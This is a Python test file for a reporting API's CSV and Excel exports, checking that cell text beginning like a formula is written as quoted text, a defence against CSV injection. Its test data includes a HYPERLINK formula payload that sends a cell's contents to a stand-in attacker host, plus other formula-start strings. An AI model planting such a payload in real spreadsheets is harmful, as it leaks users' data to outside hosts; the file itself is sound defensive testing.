"""Exports show text as text (OWASP "CSV Injection"): ``spreadsheet_safe`` for a CSV cell, and
every workbook's text stored as text, here with unit names that begin like a formula (reference
data, but written through the same path as any text)."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from api.exports.csv_files import Column, Language, csv_response
from api.exports.safe_text import FORMULA_STARTS, TEXT_PREFIX, spreadsheet_safe
from api.exports.sheets import data_cell, xlsx_response
from api.exports.workbooks import deprivation_workbook, indicators_workbook, movement_workbook
from projections.report_queries import dimensions
from tests.unit.test_workbook_print import indicator_answers, movement_report

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DANGEROUS = [HYPERLINK, "+1+1", "-SUM(A1:A9)", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-5000000"]
ON = date(2026, 1, 5)


def shown_as_a_formula(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.text())
def test_a_safe_text_is_never_a_formula_and_gives_the_text_back(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert not shown_as_a_formula(safe)
    added = TEXT_PREFIX if safe != text else ""
    assert safe == added + text
    assert safe[len(added) :] == text


@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_text_that_begins_like_a_formula_gets_the_quote(start: str, rest: str) -> None:
    assert spreadsheet_safe(start + rest) == "'" + start + rest


@pytest.mark.parametrize("text", ["Xóm Đồng Kiệm", "", "'quoted", "5000000", "a=b", "(5)=(1)"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_a_csv_quotes_text_and_leaves_numbers_numbers() -> None:
    columns = [Column("name", "Tên"), Column("amount", "Số tiền")]
    rows = [[text, -5_000_000] for text in DANGEROUS]
    languages: tuple[Language, ...] = ("vi", "en")
    for lang in languages:
        answer = csv_response(columns, rows, "x.csv", lang)
        read = list(csv.reader(io.StringIO(bytes(answer.body).decode("utf-8-sig"), newline="")))
        assert [row[0] for row in read[1:]] == ["'" + text for text in DANGEROUS]
        assert {row[1] for row in read[1:]} == {"-5000000"}


def read_back(workbook: Workbook) -> Workbook:
    return load_workbook(io.BytesIO(bytes(xlsx_response(workbook, "x.xlsx").body)))


def text_cells(workbook: Workbook) -> dict[str, Any]:
    """Each text cell's value by where it is; and no cell of the workbook is a formula."""
    cells: dict[str, Any] = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    cells[f"{sheet.title}!{cell.coordinate}"] = cell
    return cells


def assert_kept_as_text(workbook: Workbook, texts: list[str]) -> None:
    cells = text_cells(read_back(workbook))
    for text in texts:
        # XML reads a carriage return as a line feed: the text is kept, as the workbook keeps it.
        found = [c for c in cells.values() if c.value == text.replace("\r", "\n")]
        assert found, text
        assert all(c.quotePrefix for c in found), text


def test_a_cell_openpyxl_would_store_as_a_formula_is_written_as_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row, text in enumerate(DANGEROUS, start=1):
        data_cell(sheet, row, 1, text)
        data_cell(sheet, row, 2, -5_000_000)
    assert sheet["A1"].data_type == "f"  # what openpyxl does with a string beginning with "="
    assert_kept_as_text(workbook, DANGEROUS)
    back = read_back(workbook).active
    assert back is not None
    assert [back.cell(row=r, column=2).value for r in range(1, len(DANGEROUS) + 1)] == [
        -5_000_000
    ] * len(DANGEROUS)
    assert back["B1"].data_type == "n"
    assert not back["B1"].quotePrefix


def test_the_movement_workbook_writes_unit_names_as_text() -> None:
    report = movement_report()
    report["name"] = "=Tỉnh"
    report["units"][0]["name"] = HYPERLINK
    report["units"][1]["name"] = "-Huyện Phú Bình"
    assert_kept_as_text(movement_workbook(report, ON), [HYPERLINK, "-Huyện Phú Bình"])


def test_the_deprivation_workbook_writes_unit_names_as_text() -> None:
    codes = [code for _, group in dimensions() for code in group]
    counts = {"households_surveyed": 2, **dict.fromkeys(codes, 1)}
    figures = {"poor": counts, "near_poor": counts}
    report = {
        "name": "@Tỉnh",
        "as_of": date(2025, 12, 31),
        "units": [{"name": HYPERLINK, **figures}, {"name": "+Huyện Phú Bình", **figures}],
        "total": figures,
    }
    assert_kept_as_text(deprivation_workbook(report, ON), [HYPERLINK, "+Huyện Phú Bình"])


def test_the_indicators_workbook_writes_unit_names_as_text() -> None:
    by_year, by_unit = indicator_answers(2025)
    by_unit["name"] = "=Tỉnh"
    by_unit["units"][0]["name"] = HYPERLINK
    assert_kept_as_text(indicators_workbook(by_year, by_unit, ON), [HYPERLINK])
